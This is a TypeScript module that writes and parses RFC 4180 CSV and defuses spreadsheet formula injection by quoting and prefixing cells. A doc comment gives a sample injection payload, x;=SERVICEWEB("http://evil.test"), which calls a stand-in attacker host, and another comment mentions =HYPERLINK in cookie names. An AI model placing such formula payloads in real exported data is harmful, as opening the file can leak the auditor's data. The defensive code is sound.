/**
 * RFC 4180 CSV writing and reading. Cells are quoted only when they must be, and cells a
 * spreadsheet would run as a formula are defused (see neutraliseFormula and csvField).
 */

// `=`, `+`, `-`, `@` (and their full-width forms, which some Excel locales read alike), after
// optional spaces; or a tab or CR (OWASP, "CSV Injection").
const FORMULA_START = /^(?:\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r])/;
// Characters that end a field in some reader: `,` (RFC 4180), `;` (Excel and LibreOffice in
// French and most European locales), tab (pasting, TSV import), and the quote and line ends.
const MUST_QUOTE = /[",;\t\r\n]/;

/**
 * Prefixes `'` to a cell starting with `=`, `+`, `-`, `@` (after spaces too), tab or CR. Charter
 * text and cookie names come from web pages: opened in Excel or LibreOffice, `=HYPERLINK(...)`
 * in a cookie name would run as a formula on the auditor's machine (CSV injection, OWASP).
 * The quote shows as text.
 * @example neutraliseFormula('=1+1') // "'=1+1"
 */
export function neutraliseFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/**
 * One field: defused, then quoted when it holds `,`, `;`, tab, `"`, CR or LF (quotes doubled).
 * Quoting `;` and tab matters: a French Excel splits an unquoted `x;=SERVICEWEB(…)` at the `;`
 * and runs the second half as a formula; quoted, the whole field is one text cell.
 * @example csvField('x;=SERVICEWEB("http://evil.test")') // '"x;=SERVICEWEB(""http://evil.test"")"'
 */
export function csvField(value: string): string {
  const cell = neutraliseFormula(value);
  return MUST_QUOTE.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}

/**
 * Records → CSV text with CRLF line ends. A record of one empty field is written `""` so it
 * does not read back as a blank line.
 * @example formatCsv([['a', 'b,c']]) // 'a,"b,c"\r\n'
 */
export function formatCsv(records: readonly (readonly string[])[]): string {
  return records.map((r) => (r.length === 1 && r[0] === '' ? '""' : r.map(csvField).join(',')) + '\r\n').join('');
}

/**
 * CSV text → records (RFC 4180; also accepts bare LF). A final line end adds no record.
 * @example parseCsv('a,"b,c"\r\n') // [['a', 'b,c']]
 */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let pending = false; // something was read since the last record ended
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    pending = true;
    if (quoted) {
      if (ch !== '"') field += ch;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      pending = false;
    } else field += ch;
  }
  if (pending) {
    record.push(field);
    records.push(record);
  }
  return records;
}
